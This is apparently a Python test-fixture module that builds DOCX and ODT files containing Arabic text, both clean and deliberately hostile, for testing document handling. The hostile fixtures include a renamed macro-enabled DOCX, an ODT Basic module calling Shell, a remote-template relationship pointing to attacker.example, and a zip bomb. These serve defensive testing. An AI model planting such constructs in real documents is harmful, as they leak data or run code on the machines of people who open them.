"""Office documents made by the tests (DOCX, ODT), with Arabic text, clean or hostile.

Built from their XML parts with ``zipfile``, the way a word processor writes them, so every test
knows exactly what the file holds.
"""

from __future__ import annotations

import io
import zipfile

ARABIC = "طلب شهادة الإقامة رقم 2026/123"
FRENCH = "Demande d'attestation de résidence"

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_CT = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml"
 ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
</Types>"""
_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
 Target="word/document.xml"/>
</Relationships>"""


def _paragraph(text: str, rtl: bool) -> str:
    ppr = "<w:pPr><w:bidi/></w:pPr>" if rtl else ""
    rpr = '<w:rPr><w:rFonts w:cs="Noto Naskh Arabic"/><w:rtl/><w:szCs w:val="28"/></w:rPr>' if rtl else ""
    return f'<w:p>{ppr}<w:r>{rpr}<w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def docx(
    paragraphs: tuple[str, ...] = (ARABIC, FRENCH), extra: dict[str, bytes | str] | None = None, rels: str = _RELS
) -> bytes:
    body = "".join(_paragraph(p, any("\u0600" <= c <= "\u06ff" for c in p)) for p in paragraphs)
    document = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="{_W}">'
        f"<w:body>{body}</w:body></w:document>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", _CT)
        z.writestr("_rels/.rels", rels)
        z.writestr("word/document.xml", document)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return out.getvalue()


def odt(paragraphs: tuple[str, ...] = (ARABIC, FRENCH), extra: dict[str, bytes | str] | None = None) -> bytes:
    ns = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
        'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" office:version="1.2"'
    )
    faces = (
        '<office:font-face-decls><style:font-face style:name="Noto Naskh Arabic" '
        'svg:font-family="&apos;Noto Naskh Arabic&apos;"/></office:font-face-decls>'
    )
    styles = (
        '<office:automatic-styles><style:style style:name="R" style:family="paragraph">'
        '<style:paragraph-properties fo:text-align="end" style:writing-mode="rl-tb"/>'
        '<style:text-properties style:font-name-complex="Noto Naskh Arabic"/></style:style>'
        "</office:automatic-styles>"
    )
    body = "".join(
        f'<text:p text:style-name="{"R" if any(chr(0x600) <= c <= chr(0x6FF) for c in p) else ""}">{p}</text:p>'
        for p in paragraphs
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {ns}>{faces}{styles}'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")  # stored, first
        z.writestr("content.xml", content)
        z.writestr("META-INF/manifest.xml", manifest)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return out.getvalue()


def docm_renamed() -> bytes:
    """A macro-enabled document saved as .docx: its VBA project is still inside."""
    return docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512})


def odt_with_basic() -> bytes:
    """An ODT carrying a Basic module and an on-load script binding."""
    return odt(
        extra={
            "Basic/Standard/Module1.xml": '<script:module>Sub Main\nShell("id")\nEnd Sub</script:module>',
            "Basic/script-lc.xml": "<library:libraries/>",
        }
    )


def docx_with_remote_template() -> bytes:
    """A DOCX whose settings point at a template on another server (loaded, and leaking, when opened)."""
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return docx(extra={"word/_rels/settings.xml.rels": settings_rels})


def zip_bomb_docx() -> bytes:
    """A DOCX whose document part inflates a thousand times (20 MB from about 20 KB)."""
    return docx(extra={"word/media/filler.xml": b"<a>" + b"\0" * (20 * 1024 * 1024) + b"</a>"})
